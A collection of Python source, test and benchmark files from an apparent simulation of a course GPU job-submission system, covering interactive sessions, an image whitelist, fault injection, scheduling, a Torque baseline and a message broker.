# --------------------------------------------------------------------------


def serve_sessions(worker):
    """Worker process: serve interactive sessions one at a time.

    Started by :class:`~repro.core.worker.RaiWorker` when its config has
    ``enable_interactive``.
    """
    consumer = Consumer(worker.system.broker, SESSION_ROUTE)
    try:
        while not worker._stopped:
            get_event = consumer.get()
            try:
                message = yield get_event
            except Interrupt:   # worker stop
                worker._cancel_get(consumer, get_event)
                break
            if worker._stopped:
                consumer.requeue(message)
                break
            yield from _serve_one(worker, message.body)
            consumer.ack(message)
    finally:
        consumer.close()


def _serve_one(worker, request: dict):
    sim = worker.sim
    system = worker.system
    session_id = request.get("session_id", "unknown")
    out = Producer(system.broker, f"log_isout_{session_id}")

    def publish(kind: str, **payload) -> None:
        out.publish({"type": kind, "t": sim.now, "worker": worker.id,
                     **payload})

    transcript_rows: List[Tuple[str, int, float]] = []
    reason = "detached"
    container = None
    try:
        # Authenticate exactly like batch jobs.
        try:
            credential = system.keystore.lookup(request["access_key"])
            body = {k: v for k, v in request.items() if k != "signature"}
            verify_request(credential.secret_key, body,
                           request["requested_at"], request["signature"])
            image = system.registry.get(request["image"])
        except (KeyError, InvalidCredentials, SignatureMismatch,
                ImageNotFound, ImageNotWhitelisted, BuildSpecError) as exc:
            publish("rejected", error=str(exc))
            return

        # Project mount (optional).
        from repro.container.volumes import VolumeMount, cuda_volume

        mounts = [cuda_volume()]
        if request.get("upload_key"):
            try:
                archive = system.storage.get_object(
                    system.config.upload_bucket, request["upload_key"])
                yield sim.timeout(
                    archive.size / worker.config.storage_bandwidth_bps)
                project_fs = VirtualFileSystem(clock=lambda: sim.now)
                unpack_tree(archive.data, project_fs, "/")
                mounts.insert(0, VolumeMount("/src", read_only=True,
                                             source_fs=project_fs))
            except Exception as exc:
                publish("rejected", error=f"cannot fetch project: {exc}")
                return

        pull = worker.runtime.pull_cost_seconds(request["image"])
        if pull > 0:
            yield sim.timeout(pull)
        container = worker.runtime.create_container(
            request["image"],
            limits=worker.config.limits,
            mounts=mounts,
            gpu_device=worker.gpu,
            on_output=lambda stream, text: publish("log", stream=stream,
                                                   text=text),
        )
        container.time_dilation = worker._timing_noise
        container.start()
        worker.active_jobs += 1
        publish("attached", container=container.id)
        system.monitor.incr("interactive_sessions_served")

        deadline = sim.now + min(float(request.get("max_duration",
                                                   DEFAULT_SESSION_SECONDS)),
                                 worker.config.limits.max_lifetime_seconds)
        inbox = Consumer(system.broker, f"log_isin_{session_id}/#in")
        try:
            while True:
                remaining = deadline - sim.now
                if remaining <= 0:
                    reason = "session-deadline"
                    break
                get_event = inbox.get()
                idle_timer = sim.timeout(min(remaining,
                                             DEFAULT_IDLE_SECONDS))
                yield sim.any_of([get_event, idle_timer])
                if not get_event.triggered:
                    get_event.succeed(None)   # cancel the pending get
                    reason = ("session-deadline" if sim.now >= deadline
                              else "idle-timeout")
                    break
                message = get_event.value
                if message is None:
                    continue
                inbox.ack(message)
                payload = message.body
                if payload["type"] == "detach":
                    reason = "detached"
                    break
                if payload["type"] != "exec":
                    continue
                result = container.exec_line(payload["command"])
                yield sim.timeout(result.sim_duration)
                transcript_rows.append((payload["command"],
                                        result.exit_code,
                                        result.sim_duration))
                publish("result", seq=payload["seq"],
                        exit_code=result.exit_code,
                        duration=result.sim_duration,
                        error=result.error)
                from repro.container.container import ContainerState

                if container.state is not ContainerState.RUNNING:
                    # OOM-kill or lifetime cap ends the session; mere
                    # command failures (incl. network denial) do not —
                    # debugging failed commands is what sessions are FOR.
                    reason = f"container-{container.state.value}"
                    break
        finally:
            inbox.close()
    finally:
        if container is not None:
            worker.runtime.destroy_container(container)
            worker.active_jobs -= 1
        publish("end", reason=reason)
        out.close()
        system.db.collection("interactive_sessions").insert_one({
            "session_id": session_id,
            "username": request.get("username"),
            "team": request.get("team"),
            "worker": worker.id,
            "commands": [{"command": c, "exit_code": e, "duration": d}
                         for c, e, d in transcript_rows],
            "end_reason": reason,
            "ended_at": sim.now,
        })
