"""Unit tests for images, the registry, and course data files."""

import numpy as np
import pytest

from repro.container.image import (
    Image,
    ImageRegistry,
    course_data_files,
    default_registry,
)
from repro.errors import ImageNotFound, ImageNotWhitelisted
from repro.gpu.hdf5sim import read_h5s


class TestRegistry:
    def test_default_course_registry(self):
        registry = default_registry()
        assert "webgpu/rai:root" in registry.whitelist
        assert "sketchy/custom:latest" not in registry.whitelist
        assert registry.exists("sketchy/custom:latest")

    def test_whitelist_bypass_flag(self):
        registry = default_registry()
        image = registry.get("sketchy/custom:latest",
                             enforce_whitelist=False)
        assert image.name == "sketchy/custom:latest"
        with pytest.raises(ImageNotWhitelisted):
            registry.get("sketchy/custom:latest")

    def test_unknown_image(self):
        registry = ImageRegistry()
        with pytest.raises(ImageNotFound):
            registry.get("ghost:1")

    def test_no_whitelist_means_all_allowed(self):
        registry = ImageRegistry()
        registry._images["x"] = Image(name="x", size_bytes=1)
        registry.get("x")   # whitelist None → anything known is fine

    def test_add_dedupes_whitelist(self):
        registry = ImageRegistry()
        image = Image(name="a", size_bytes=1)
        registry.add(image)
        registry.add(image)
        assert registry.whitelist == ["a"]

    def test_pull_seconds_scale(self):
        image = Image(name="big", size_bytes=10 ** 9)
        assert image.pull_seconds(100e6) == pytest.approx(10.0)


class TestCourseData:
    def test_files_present(self):
        data = course_data_files()
        assert set(data) == {"data/test10.hdf5", "data/testfull.hdf5",
                             "data/model.hdf5"}

    def test_test10_has_real_images(self):
        data = course_data_files()
        small = read_h5s(data["data/test10.hdf5"])
        assert small["images"].shape == (10, 1, 28, 28)
        assert int(small["count"][0]) == 10

    def test_testfull_is_sparse(self):
        """10,000 images are represented by a count, not rasters."""
        data = course_data_files()
        full = read_h5s(data["data/testfull.hdf5"])
        assert int(full["count"][0]) == 10000
        assert len(data["data/testfull.hdf5"]) < 10_000

    def test_model_has_all_layers(self):
        data = course_data_files()
        model = read_h5s(data["data/model.hdf5"])
        assert "conv1.weight" in model and "fc2.bias" in model

    def test_cached_across_calls(self):
        a = course_data_files()
        b = course_data_files()
        assert a["data/model.hdf5"] is b["data/model.hdf5"]
