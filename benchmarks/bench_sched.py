"""Warm-start + fair-share scheduling — before/after the storm.

Not a paper figure: like ``bench_hotpath`` this records the
reproduction's own perf trajectory.  It replays a single-team
resubmission storm alongside ordinary deadline-week teams at several
scales, twice per scale — the FIFO/cold-start baseline and the warm
configuration (per-worker container pool + fair-share deadline-aware
scheduler) — prints the headline numbers, asserts the warm-start
acceptance floors at the medium scale, and writes ``BENCH_sched.json``
at the repository root.

Run: ``pytest benchmarks/bench_sched.py -s``
"""

import json
import os

from benchmarks.conftest import print_banner
from repro.workload.schedbench import DEFAULT_SCALES, run_sched

_OUT_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)),
                         "BENCH_sched.json")


def test_sched_trajectory(benchmark):
    def run_all_scales():
        return [
            {"scale": scale.name,
             "baseline": run_sched(scale, warm=False),
             "warm": run_sched(scale, warm=True)}
            for scale in DEFAULT_SCALES
        ]

    results = benchmark.pedantic(run_all_scales, rounds=1, iterations=1)

    print_banner("Warm-start execution — pools / layers / fair share")
    print(f"{'scale':<9}{'mode':<10}{'resub p50':>10}{'resub p95':>10}"
          f"{'pool hit':>9}{'resub hit':>10}{'max/glob wait':>14}"
          f"{'wall s':>8}")
    for pair in results:
        for mode in ("baseline", "warm"):
            m = pair[mode]
            resub = m["latency_s"]["resubmissions"]
            hit = m["pool"]["hit_rate"]
            rhit = m["pool"]["resubmission_hit_rate"] or 0.0
            ratio = m["fairness"]["max_over_global"]
            print(f"{pair['scale']:<9}{mode:<10}"
                  f"{resub['p50']:>10.2f}{resub['p95']:>10.2f}"
                  f"{hit * 100:>8.0f}%{rhit * 100:>9.0f}%"
                  f"{ratio:>14.2f}{m['wall_clock_s']:>8.2f}")

    medium = next(p for p in results if p["scale"] == "medium")
    base_p95 = medium["baseline"]["latency_s"]["resubmissions"]["p95"]
    warm_p95 = medium["warm"]["latency_s"]["resubmissions"]["p95"]
    print(f"\nmedium resubmission p95 speedup: "
          f"{base_p95 / warm_p95:.2f}x "
          f"({base_p95:.2f}s -> {warm_p95:.2f}s)")
    print(f"medium layer-cache pull savings: "
          f"{medium['warm']['pull']['bytes_pull_saved'] / 2**30:.1f} GiB "
          f"(pulled {medium['warm']['pull']['bytes_pulled'] / 2**30:.1f})")

    # --- acceptance floors (ISSUE 4) -------------------------------------
    # (a) Resubmission p95 at medium scale: >= 2x better than the
    # FIFO/cold-start baseline run in this same bench.
    assert base_p95 >= 2.0 * warm_p95
    # (b) Warm-pool hit rate on resubmissions >= 50%.
    assert medium["warm"]["pool"]["resubmission_hit_rate"] >= 0.5
    # (c) Fairness under the single-team storm: no team's mean queue
    # wait exceeds 2x the global mean (the baseline gets no such
    # guarantee, so it is only asserted warm).
    assert medium["warm"]["fairness"]["max_over_global"] <= 2.0
    # The baseline never warms anything — guards against the bench
    # accidentally comparing warm to warm.
    assert medium["baseline"]["pool"]["hits"] == 0

    payload = {
        "bench": "sched",
        "source": "benchmarks/bench_sched.py",
        "scales": results,
    }
    with open(_OUT_PATH, "w") as fh:
        json.dump(payload, fh, indent=1)
        fh.write("\n")
    print(f"\nwrote {_OUT_PATH}")
