"""Unit tests for fault-plan validation and the injector hooks."""

import pytest

from repro.core.system import RaiSystem
from repro.errors import TransientStorageError
from repro.faults import (
    BrokerFault,
    ContainerKillFault,
    FaultPlan,
    StorageFault,
    WorkerCrashFault,
)


class TestPlanValidation:
    def test_empty_plan(self):
        plan = FaultPlan()
        assert plan.is_empty
        assert "empty" in plan.describe()

    def test_lists_coerced_to_tuples(self):
        plan = FaultPlan(storage_faults=[StorageFault(failures_per_key=1)])
        assert isinstance(plan.storage_faults, tuple)

    def test_bad_values_rejected(self):
        with pytest.raises(ValueError):
            WorkerCrashFault(window=(50.0, 10.0))
        with pytest.raises(ValueError):
            WorkerCrashFault(mode="explode")
        with pytest.raises(ValueError):
            StorageFault(op="delete")
        with pytest.raises(ValueError):
            StorageFault(rate=1.5)
        with pytest.raises(ValueError):
            BrokerFault(drop_rate=-0.1)
        with pytest.raises(ValueError):
            BrokerFault(delay_range=(5.0, 1.0))
        with pytest.raises(ValueError):
            ContainerKillFault(rate=2.0)

    def test_describe_mentions_each_kind(self):
        plan = FaultPlan(
            worker_crashes=(WorkerCrashFault(window=(0.0, 1.0)),),
            storage_faults=(StorageFault(failures_per_key=1),),
            broker_faults=(BrokerFault(drop_rate=0.1),),
            container_kills=(ContainerKillFault(rate=0.1),),
        )
        text = plan.describe()
        for word in ("crash", "storage", "broker", "container"):
            assert word in text


class TestStorageHook:
    def test_first_n_calls_per_key_fail_then_succeed(self):
        system = RaiSystem(seed=1)
        system.storage.create_bucket("b")
        system.storage.put_object("b", "k", b"data")
        plan = FaultPlan(storage_faults=(
            StorageFault(op="get", failures_per_key=2),))
        injector = system.start_fault_plan(plan)

        for _ in range(2):
            with pytest.raises(TransientStorageError):
                system.storage.get_object("b", "k")
        assert system.storage.get_object("b", "k").data == b"data"
        # Puts are unaffected by a get-only fault.
        system.storage.put_object("b", "k2", b"x")
        assert injector.injected == 2
        assert system.monitor.counters.get("faults_storage_get") == 2

    def test_bucket_scoping(self):
        system = RaiSystem(seed=1)
        system.storage.create_bucket("a")
        system.storage.create_bucket("b")
        system.storage.put_object("a", "k", b"1")
        system.storage.put_object("b", "k", b"2")
        system.start_fault_plan(FaultPlan(storage_faults=(
            StorageFault(op="get", failures_per_key=1, bucket="a"),)))
        assert system.storage.get_object("b", "k").data == b"2"
        with pytest.raises(TransientStorageError):
            system.storage.get_object("a", "k")

    def test_stop_restores_storage(self):
        system = RaiSystem(seed=1)
        system.storage.create_bucket("b")
        system.storage.put_object("b", "k", b"data")
        injector = system.start_fault_plan(FaultPlan(storage_faults=(
            StorageFault(op="get", failures_per_key=99),)))
        with pytest.raises(TransientStorageError):
            system.storage.get_object("b", "k")
        injector.stop()
        assert system.storage.fault_hook is None
        assert system.storage.get_object("b", "k").data == b"data"


class TestBrokerHook:
    def test_drop_rate_one_drops_everything(self):
        system = RaiSystem(seed=1)
        injector = system.start_fault_plan(FaultPlan(broker_faults=(
            BrokerFault(topic="rai", drop_rate=1.0),)))
        assert system.broker.publish("rai", {"x": 1}) is None
        assert system.queue_depth() == 0
        # Other topics are untouched.
        assert system.broker.publish("other", {"x": 1}) is not None
        injector.stop()
        assert system.broker.publish("rai", {"x": 2}) is not None

    def test_delay_defers_delivery(self):
        system = RaiSystem(seed=1)
        system.start_fault_plan(FaultPlan(broker_faults=(
            BrokerFault(topic="rai", delay_rate=1.0,
                        delay_range=(10.0, 10.0)),)))
        system.broker.publish("rai", {"x": 1})
        assert system.queue_depth() == 0
        system.run(until=11.0)
        assert system.queue_depth() == 1
        assert system.monitor.counters.get("faults_broker_delay") == 1

    def test_same_seed_same_drop_decisions(self):
        def decisions(seed):
            system = RaiSystem(seed=seed)
            system.start_fault_plan(FaultPlan(broker_faults=(
                BrokerFault(topic="rai", drop_rate=0.5),)))
            return [system.broker.publish("rai", {"i": i}) is None
                    for i in range(32)]

        assert decisions(42) == decisions(42)
        assert decisions(42) != decisions(43)


class TestWorkerCrashProcess:
    def test_targeted_crash_fires_in_window(self):
        system = RaiSystem.standard(num_workers=2, seed=5)
        victim = system.workers[0]
        system.start_fault_plan(FaultPlan(worker_crashes=(
            WorkerCrashFault(window=(5.0, 10.0), worker_id=victim.id),)))
        system.run(until=20.0)
        assert not victim.is_running
        assert victim._crashed
        assert system.workers[1].is_running
        events = system.monitor.events_of("fault_injected")
        assert any(f["kind"] == "worker_crash" and f["worker"] == victim.id
                   for _, f in events)
        (t, _), = events
        assert 5.0 <= t <= 10.0

    def test_restart_after_adds_replacement(self):
        system = RaiSystem.standard(num_workers=1, seed=5)
        system.start_fault_plan(FaultPlan(worker_crashes=(
            WorkerCrashFault(window=(1.0, 2.0), restart_after=30.0),)))
        system.run(until=60.0)
        assert len(system.workers) == 2
        assert len(system.running_workers) == 1

    def test_stop_mode_uses_graceful_path(self):
        system = RaiSystem.standard(num_workers=1, seed=5)
        victim = system.workers[0]
        system.start_fault_plan(FaultPlan(worker_crashes=(
            WorkerCrashFault(window=(1.0, 2.0), worker_id=victim.id,
                             mode="stop"),)))
        system.run(until=10.0)
        assert not victim.is_running
        assert not victim._crashed
