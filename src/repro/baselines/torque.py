"""A Torque/PBS-style batch cluster (Table I row 2).

A fixed pool of nodes with a FIFO queue: full flexibility (users get a
shell on a real node), per-job isolation via scheduler-enforced node
allocation, institution-level accessibility (students need cluster
accounts), and no enforced grading procedure.

This model also serves as the *fixed-capacity* comparator in the
elasticity benchmark: §III observes that "the fixed resources of the local
cluster can become oversubscribed during the final weeks of the semester
... the cluster queue can become long, causing delays and a poor
experience".
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.baselines.base import BaselineJob, SubmissionOutcome, SubmissionSystem
from repro.sim.resources import Resource


@dataclass
class TorqueJob:
    """A queued batch job (the ``qsub`` record)."""

    job_id: str
    owner: str
    service_seconds: float
    submitted_at: float
    started_at: Optional[float] = None
    finished_at: Optional[float] = None

    @property
    def queue_wait(self) -> Optional[float]:
        if self.started_at is None:
            return None
        return self.started_at - self.submitted_at


class TorqueCluster(SubmissionSystem):
    """FIFO batch scheduling over a fixed node pool."""

    name = "Torque/PBS"
    remote_accessible_without_hardware = True  # via institutional login

    def __init__(self, sim, nodes: int = 64):
        self.sim = sim
        self.nodes = Resource(sim, capacity=nodes)
        self._fixed_nodes = nodes
        self.jobs: List[TorqueJob] = []
        self._counter = 0

    # -- batch interface ------------------------------------------------------

    def qsub(self, owner: str, service_seconds: float) -> TorqueJob:
        """Submit a batch job; returns its record immediately."""
        self._counter += 1
        job = TorqueJob(job_id=f"{self._counter}.torque", owner=owner,
                        service_seconds=service_seconds,
                        submitted_at=self.sim.now)
        self.jobs.append(job)
        self.sim.process(self._run(job))
        return job

    def _run(self, job: TorqueJob):
        with self.nodes.request() as req:
            yield req
            job.started_at = self.sim.now
            yield self.sim.timeout(job.service_seconds)
            job.finished_at = self.sim.now

    def qstat(self) -> dict:
        queued = sum(1 for j in self.jobs if j.started_at is None)
        running = sum(1 for j in self.jobs
                      if j.started_at is not None and j.finished_at is None)
        return {"queued": queued, "running": running,
                "completed": len(self.jobs) - queued - running}

    def drain(self) -> None:
        """Run the simulation until the queue empties."""
        pending = [j for j in self.jobs if j.finished_at is None]
        while pending:
            self.sim.run(until=self.sim.peek())
            pending = [j for j in self.jobs if j.finished_at is None]

    def completed_waits(self) -> List[float]:
        return [j.queue_wait for j in self.jobs if j.started_at is not None]

    # -- comparison interface ------------------------------------------------------

    def submit(self, job: BaselineJob) -> SubmissionOutcome:
        record = self.qsub(job.owner, job.service_seconds)
        return SubmissionOutcome(
            accepted=True,
            ran_requested_commands=True,       # full shell on the node
            used_requested_image=True,         # modules/user environments
            escaped_sandbox=False,             # scheduler isolates nodes
            enforced_grading_procedure=False,  # staff scripts ad hoc
            had_gpu=True,
            notes=f"queued as {record.job_id}",
        )

    def add_capacity(self, units: int) -> int:
        # Buying and racking new cluster nodes takes a procurement cycle,
        # not a deadline week: no elastic capacity.
        return 0

    def capacity(self) -> int:
        return self._fixed_nodes
