"""Observability overhead — tracing ON vs OFF across hot-path scales.

Not a paper figure: this bench prices the ``repro.obs`` subsystem so
later PRs can regress against it.  It runs the hot-path workload at
each scale twice — tracing enabled and disabled — and reports the wall
clock delta, span volume, and store pressure, asserting the acceptance
bar (< 10% overhead at every scale) and writing ``BENCH_obs.json`` at
the repository root.

Run: ``pytest benchmarks/bench_obs_overhead.py -s``
"""

import json
import os

from benchmarks.conftest import print_banner
from repro.core.config import SystemConfig
from repro.workload.hotpath import DEFAULT_SCALES, run_hotpath

_OUT_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)),
                         "BENCH_obs.json")

_ROUNDS = 3  # min-of-N per side damps scheduler noise


def _best_of(scale, tracing: bool) -> float:
    return min(
        run_hotpath(scale, config=SystemConfig(
            tracing_enabled=tracing))["wall_clock_s"]
        for _ in range(_ROUNDS))


def test_obs_overhead_trajectory(benchmark):
    def run_all_scales():
        rows = []
        for scale in DEFAULT_SCALES:
            on = _best_of(scale, tracing=True)
            off = _best_of(scale, tracing=False)
            overhead = (on / off - 1.0) if off > 0 else 0.0
            rows.append({
                "scale": scale.name,
                "submissions": scale.n_students * (scale.n_resubmissions + 1),
                "wall_s_tracing_on": round(on, 4),
                "wall_s_tracing_off": round(off, 4),
                "overhead_pct": round(100 * overhead, 2),
            })
        return rows

    rows = benchmark.pedantic(run_all_scales, rounds=1, iterations=1)

    print_banner("repro.obs — tracing overhead (on vs off, min of "
                 f"{_ROUNDS})")
    print(f"{'scale':<10}{'subs':>6}{'on s':>9}{'off s':>9}"
          f"{'overhead':>10}")
    for row in rows:
        print(f"{row['scale']:<10}{row['submissions']:>6}"
              f"{row['wall_s_tracing_on']:>9.3f}"
              f"{row['wall_s_tracing_off']:>9.3f}"
              f"{row['overhead_pct']:>9.1f}%")

    # --- acceptance bar (ISSUE 3): tracing costs < 10% everywhere -------
    worst = max(row["overhead_pct"] for row in rows)
    print(f"\nworst-case overhead: {worst:.1f}% (budget 10%)")
    assert worst < 10.0

    payload = {
        "bench": "obs_overhead",
        "source": "benchmarks/bench_obs_overhead.py",
        "rounds_per_side": _ROUNDS,
        "scales": rows,
    }
    with open(_OUT_PATH, "w") as fh:
        json.dump(payload, fh, indent=1)
        fh.write("\n")
    print(f"\nwrote {_OUT_PATH}")
