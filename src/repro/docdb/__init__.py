"""MongoDB-style document database.

The paper stores "meta-information about submissions, including execution
times, run-times, and logs" plus the competition ranking in MongoDB (§IV).
This subpackage implements the slice of MongoDB the system needs — and
enough beyond it to be a usable general store:

- collections of JSON-like documents with generated ``_id``\\ s;
- query operators (``$eq $ne $gt $gte $lt $lte $in $nin $exists $regex
  $and $or $nor $not $size``) with dotted-path traversal and array
  membership semantics;
- update operators (``$set $unset $inc $mul $min $max $push $pull
  $addToSet $pop $rename``) and upserts;
- unique and secondary indexes with an equality fast path;
- sort / skip / limit cursors and projections;
- an aggregation pipeline (``$match $group $sort $skip $limit $project
  $unwind $count``).

Documents are deep-copied across the API boundary, so callers can never
mutate stored state by aliasing — the same isolation a real client/server
database enforces by serialisation.
"""

from repro.docdb.database import DocumentDB, Collection
from repro.docdb.query import match_document, get_path
from repro.docdb.update import apply_update
from repro.docdb.cursor import Cursor
from repro.docdb.aggregate import run_pipeline

__all__ = [
    "DocumentDB",
    "Collection",
    "match_document",
    "get_path",
    "apply_update",
    "Cursor",
    "run_pipeline",
]
