"""Control-plane sharding: partitioned broker + routed docdb + schedulers.

One broker topic, one docdb collection, and one scheduler instance is the
single-instance ceiling the ROADMAP names: every submission funnels through
the same queue, every dequeue scans the same backlog, and a deadline storm
in one course stalls everyone (the RAI paper's ECE408 saturation).  This
package applies Ray's sharded-GCS shape to the submission control plane:

- :class:`~repro.shard.shardmap.ShardMap` — a stable, seeded hash
  partitioning of team keys into N partitions, shared by the message
  plane and the document store so a team's queue traffic and its
  submission records land on the *same* partition;
- :class:`~repro.shard.shardmap.Router` — publish-time routing (key →
  partition → ``tasks.pK`` topic) so no partition ever sees another's
  traffic;
- :class:`~repro.shard.steal.StealingConsumer` — a partition-pinned
  consumer that falls back to occupancy-driven work-stealing when its
  home queue runs dry, so a storm in one partition cannot idle the rest
  of the fleet;
- :class:`~repro.shard.plane.ShardedControlPlane` — the assembled
  runtime: per-partition channels, schedulers, metrics, steal counters,
  and the opt-in rebalancer loop.

``shards=1`` (the :class:`~repro.core.config.SystemConfig` default)
disables all of this: the system takes the exact legacy code paths and is
behavior-identical to an unsharded deployment, byte for byte.
"""

from repro.shard.plane import ShardedControlPlane
from repro.shard.shardmap import Router, ShardMap
from repro.shard.steal import StealingConsumer

__all__ = ["ShardMap", "Router", "ShardedControlPlane", "StealingConsumer"]
