"""Topics and channels."""

from __future__ import annotations

from collections import deque
from typing import Deque, Dict, List, Optional

from repro.broker.message import Message
from repro.sim.resources import Store


class Channel(Store):
    """A competing-consumers queue inside a topic.

    Extends the kernel :class:`~repro.sim.resources.Store` with delivery
    bookkeeping: in-flight tracking, acknowledgement, requeueing with an
    attempt budget, and a dead-letter list (messages are never silently
    lost — resilience is one of the broker's two stated jobs, §IV).
    """

    __slots__ = ("topic", "name", "max_attempts", "in_flight",
                 "dead_letters", "subscriber_count", "total_delivered",
                 "total_acked", "total_requeued", "total_dead_lettered",
                 "total_prefetched", "scheduler")

    def __init__(self, sim, topic: "Topic", name: str,
                 max_attempts: int = 5):
        super().__init__(sim)
        self.topic = topic
        self.name = name
        self.max_attempts = max_attempts
        self.in_flight: Dict[str, Message] = {}
        self.dead_letters: List[Message] = []
        self.subscriber_count = 0
        self.total_delivered = 0
        self.total_acked = 0
        self.total_requeued = 0
        self.total_dead_lettered = 0
        self.total_prefetched = 0
        #: Optional dequeue policy (e.g. :class:`repro.sched.JobScheduler`):
        #: ``select(items) -> index`` reorders the queue on dequeue,
        #: ``note_dispatch(msg)`` observes every claimed message.
        self.scheduler = None

    @property
    def depth(self) -> int:
        """Queued (not yet delivered) message count."""
        return len(self.items)

    @property
    def ready_count(self) -> int:
        """Messages claimable *right now* without blocking — the prefetch
        signal: a worker finishing a job can drain this many more before
        going back to sleep on ``deliver()``."""
        return len(self.items)

    def _journal(self):
        """The deployment's durability journal, or None.

        Ephemeral ``log_*`` topics are never journaled: their contents
        die with the process by design, and logging every streamed log
        line would dominate the WAL.
        """
        if self.topic.ephemeral:
            return None
        return getattr(self.topic.broker, "journal", None)

    @property
    def route(self) -> str:
        return f"{self.topic.name}/{self.name}"

    def _pop_next(self) -> Message:
        if self.scheduler is not None and len(self.items) > 1:
            index = self.scheduler.select(self.items)
            if 0 < index < len(self.items):
                item = self.items[index]
                del self.items[index]
                return item
        return self.items.popleft()

    def deliver(self) -> "StoreGetWrapper":
        """Event yielding the next message; marks it in-flight on fire."""
        get_event = self.get()
        get_event.callbacks.insert(0, self._on_deliver)
        return get_event

    def try_deliver(self) -> Optional[Message]:
        """Claim the next message synchronously, or None.

        The prefetch path: bypasses the event machinery when a message is
        already queued, so a worker can pull a batch per wakeup instead of
        paying one scheduler round-trip per message.  Never steals from a
        blocked ``deliver()`` — returns None while gets are pending.
        """
        if not self.items or self._gets:
            return None
        msg = self._pop_next()
        self.total_prefetched += 1
        self._mark_delivered(msg)
        return msg

    def _on_deliver(self, event) -> None:
        msg: Message = event.value
        if msg is None:
            # The get was cancelled (consumer shut down) before a message
            # arrived; nothing to mark in-flight.
            return
        self._mark_delivered(msg)

    def _mark_delivered(self, msg: Message) -> None:
        msg.attempts += 1
        msg.delivered_at = self.sim.now
        msg._channel = self
        self.in_flight[msg.id] = msg
        self.total_delivered += 1
        journal = self._journal()
        if journal is not None:
            journal.broker_deliver(self.route, msg.id)
        self._trace_delivery(msg)
        if self.scheduler is not None:
            self.scheduler.note_dispatch(msg)
        if msg.attempts > 1:
            self._emit_event("broker.redeliver", msg)

    def _emit_event(self, type: str, msg: Message, **fields) -> None:
        """Record a delivery anomaly in the deployment event log.

        Runs after :meth:`_trace_delivery`, so the message's headers
        carry this delivery attempt's span — the event links straight to
        the redelivery chain in the waterfall.
        """
        broker = getattr(self.topic, "broker", None)
        events = getattr(broker, "events", None)
        if events is None:
            return
        body = msg.body if isinstance(msg.body, dict) else {}
        headers = msg.headers or {}
        events.emit(type,
                    trace_id=headers.get("trace_id"),
                    span_id=headers.get("span_id"),
                    route=f"{self.topic.name}/{self.name}",
                    message_id=msg.id, attempt=msg.attempts,
                    job_id=body.get("job_id"), team=body.get("team"),
                    **fields)

    def _trace_delivery(self, msg: Message) -> None:
        """Span the publish → claim gap for trace-carrying messages.

        The completed ``broker.deliver`` span replaces the message's
        headers with its own context, so the consumer's span — and any
        redelivery's deliver span — parents on *this* delivery: a
        redelivered job reads as a chain, one deliver span per attempt.
        """
        broker = getattr(self.topic, "broker", None)
        tracer = getattr(broker, "tracer", None)
        if not msg.headers or tracer is None or not tracer.enabled:
            return
        span = tracer.start_span(
            "broker.deliver", parent=msg.headers, kind="broker",
            start_time=msg.timestamp,
            attributes={"topic": self.topic.name, "channel": self.name,
                        "message_id": msg.id, "attempt": msg.attempts})
        if msg.attempts > 1:
            span.add_event("redelivery", attempt=msg.attempts)
        span.end(at=self.sim.now)
        msg.headers = span.headers()

    def ack(self, message: Message) -> None:
        self.in_flight.pop(message.id, None)
        self.total_acked += 1
        journal = self._journal()
        if journal is not None:
            journal.broker_ack(self.route, message.id)
        self.topic._maybe_reap()

    def ack_release(self, message: Message) -> None:
        """Ack and recycle the delivery copy into the message freelist.

        Opt-in fast path for consumers that are provably done reading the
        message (body, headers, everything) by the time they ack.  A plain
        :meth:`ack` never recycles — callers routinely inspect the body
        after acking, and handing their message to the pool would let a
        later publish mutate it under them.
        """
        self.ack(message)
        message.release()

    def requeue(self, message: Message) -> bool:
        """Return the message to the queue; dead-letter if out of attempts.

        Returns True if requeued, False if dead-lettered.
        """
        self.in_flight.pop(message.id, None)
        journal = self._journal()
        if message.attempts >= self.max_attempts:
            self.dead_letters.append(message)
            self.total_dead_lettered += 1
            if journal is not None:
                journal.broker_requeue(self.route, message.id,
                                       dead_lettered=True)
            self._emit_event("broker.dead_letter", message)
            return False
        self.total_requeued += 1
        # Journal before put(): a blocked consumer claims the message
        # synchronously inside put(), and its deliver record must land
        # after this requeue record for replay to make sense.
        if journal is not None:
            journal.broker_requeue(self.route, message.id,
                                   dead_lettered=False)
        self._put_fast(message)
        return True

    def drain_dead_letters(self) -> List[Message]:
        """Remove and return every dead-lettered message (for a consumer
        that routes poison messages somewhere durable)."""
        drained, self.dead_letters = self.dead_letters, []
        if drained:
            journal = self._journal()
            if journal is not None:
                journal.broker_dl_drain(self.route,
                                        [m.id for m in drained])
        return drained

    def requeue_stale(self, in_flight_timeout: float) -> int:
        """Requeue messages delivered but not acked within the timeout.

        This is the resiliency half of the broker's job (§IV): a consumer
        that died mid-job (worker crash, instance termination) neither
        acks nor requeues, so a caretaker sweep returns its messages to
        the queue for redelivery — at-least-once semantics.
        """
        now = self.sim.now
        stale = [msg for msg in self.in_flight.values()
                 if msg.delivered_at is not None
                 and now - msg.delivered_at >= in_flight_timeout]
        for msg in stale:
            self.requeue(msg)
        return len(stale)

    def stats(self) -> dict:
        return {
            "route": f"{self.topic.name}/{self.name}",
            "depth": self.depth,
            "in_flight": len(self.in_flight),
            "subscribers": self.subscriber_count,
            "delivered": self.total_delivered,
            "acked": self.total_acked,
            "requeued": self.total_requeued,
            "prefetched": self.total_prefetched,
            "dead_letters": len(self.dead_letters),
            "dead_lettered_total": self.total_dead_lettered,
        }


class Topic:
    """A named fan-out point.

    Messages published to a topic are copied to every channel.  Messages
    published while a topic has *no* channels are buffered in the topic
    backlog and flushed to the first channel created — so a worker's first
    log lines are not lost if the client has not subscribed yet (the paper's
    worker creates ``log_${job_id}`` then immediately starts streaming).
    """

    __slots__ = ("sim", "name", "ephemeral", "max_attempts", "channels",
                 "backlog", "producer_count", "total_published", "broker",
                 "_on_empty")

    def __init__(self, sim, name: str, ephemeral: bool = False,
                 max_attempts: int = 5, on_empty=None):
        self.sim = sim
        self.name = name
        self.ephemeral = ephemeral
        self.max_attempts = max_attempts
        self.channels: Dict[str, Channel] = {}
        self.backlog: Deque[Message] = deque()
        self.producer_count = 0
        self.total_published = 0
        #: Back-reference set by :class:`~repro.broker.broker.MessageBroker`
        #: (None for free-standing topics in unit tests); channels use it
        #: to reach the broker's tracer for delivery spans.
        self.broker = None
        #: Callback invoked when an ephemeral topic becomes garbage.
        self._on_empty = on_empty

    def channel(self, name: str) -> Channel:
        ch = self.channels.get(name)
